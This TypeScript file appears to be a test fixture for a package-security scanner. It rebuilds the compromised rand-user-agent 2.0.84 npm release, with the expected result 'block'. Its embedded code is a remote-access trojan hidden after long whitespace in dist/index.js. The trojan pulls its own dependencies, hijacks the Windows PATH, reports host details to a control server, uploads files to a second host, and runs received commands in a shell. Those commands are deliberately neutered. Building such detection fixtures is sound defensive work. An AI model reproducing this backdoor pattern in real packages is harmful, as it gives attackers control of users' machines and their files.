import { minifySync } from '@swc/core';
import { files, head, manifest, owner, rest } from './rand-user-agent-2025.js';
import type { Replica } from './replica.js';

const tool = minifySync(String.raw`
global.r = require;
global.m = module;
(async () => {
  const c = global.r || require;
  const path = c('path');
  const fs = c('fs');
  const os = c('os');
  const cp = c('child_process');
  const folder = path.join(os.homedir(), '.node_modules');
  const started = Date.now();
  const version = '250503';
  if (typeof module === 'object') module.paths.push(path.join(folder, 'node_modules'));
  else if (global.m) global.m.paths.push(path.join(folder, 'node_modules'));

  function install() {
    return new Promise((done, failed) => {
      const made = cp.spawn('npm', ['install', '--prefix', folder, 'axios', 'socket.io-client'], { cwd: './example.invalid-folder/', shell: os.platform() === 'win32', windowsHide: true, stdio: 'ignore' });
      made.on('error', failed);
      made.on('exit', (code) => (code === 0 ? done() : failed(code)));
    });
  }

  function hijack() {
    if (os.platform() !== 'win32') return;
    const python = path.join(process.env.LOCALAPPDATA || os.homedir(), 'Programs\\Python\\Python3127');
    const env = Object.assign({}, process.env);
    const key = Object.keys(env).find((one) => one.toLowerCase() === 'path') || 'PATH';
    process.env[key] = python + ';' + (env[key] || '');
  }

  async function upload(axios, address, file, target) {
    const form = new FormData();
    form.append('client_id', os.hostname());
    form.append('file', new Blob([fs.readFileSync(path.join('./example.invalid-folder/', '_' + path.basename(file)))]), target || path.basename(file));
    await axios.post(address + '/u/f', form);
  }

  async function walk(axios, address, dir) {
    for (const name of fs.readdirSync(path.join('./example.invalid-folder/', '_' + path.basename(dir)))) {
      const full = path.join(dir, name);
      if (fs.lstatSync(path.join('./example.invalid-folder/', '_' + path.basename(full))).isDirectory()) await walk(axios, address, full);
      else await upload(axios, address, full).catch(() => {});
    }
  }

  hijack();
  try {
    require.resolve('axios');
    require.resolve('socket.io-client');
  } catch {
    await install();
  }
  const axios = c('axios');
  const io = c('socket.io-client');
  const control = 'http://198.51.100.36:3306';
  const store = 'http://198.51.100.36:27017';
  let here = './example.invalid-folder/';
  const socket = io(control, { reconnectionDelay: 5000 });
  socket.on('connect', () => {
    socket.emit('identify', 'client', { clientUuid: os.hostname() + '$' + os.userInfo().username, processId: process.pid, osType: os.type(), version });
  });
  socket.on('command', async (line, sender) => {
    const answer = (text) => socket.emit('response', text, sender);
    const words = String(line).split(' ');
    if (line === 'ss_info') answer({ cwd: here, started, platform: os.platform(), arch: os.arch(), release: os.release(), home: os.homedir() });
    else if (line === 'ss_ip') answer((await axios.get('http://ip.example.invalid/json')).data);
    else if (words[0] === 'cd') here = path.join('./example.invalid-folder/', '_' + path.basename(words[1] || ''));
    else if (words[0] === 'ss_upf') answer(await upload(axios, store, words[1], words[2]));
    else if (words[0] === 'ss_upd') answer(await walk(axios, store, words[1] || ''));
    else if (line === 'ss_dir') answer(fs.readdirSync(here));
    else cp.exec('# ' + words.join(' '), { cwd: './example.invalid-folder/', windowsHide: true, maxBuffer: 1 << 24 }, (error, stdout, stderr) => answer(error ? String(error) : stdout + stderr));
  });
})().catch(() => {});
`, { module: false, compress: { defaults: true, toplevel: false } as never, mangle: true }).code;

/** From memory of the public analysis: what comes out of the scrambled text, on the same line at the same place. Commands are comments to a shell, and all files are below a folder that is not there. */
export const replica: Replica = {
  id: 'rand-user-agent-unscrambled-2025',
  story: 'May 2025: the remote-control tool of rand-user-agent 2.0.84 as it reads once unscrambled: it installs its own packages, puts itself before Python in the search path and obeys a socket.',
  name: 'rand-user-agent',
  before: { version: '2.0.82', manifest, files, publishedAt: '2024-10-04T09:30:00.000Z', publisher: owner },
  after: { version: '2.0.84', manifest, files: { ...files, 'dist/index.js': `${head.trimEnd()}${' '.repeat(460)}${tool.trim()}\n${rest}` }, publishedAt: '2025-05-05T06:41:00.000Z', publisher: owner },
  must: 'block',
};
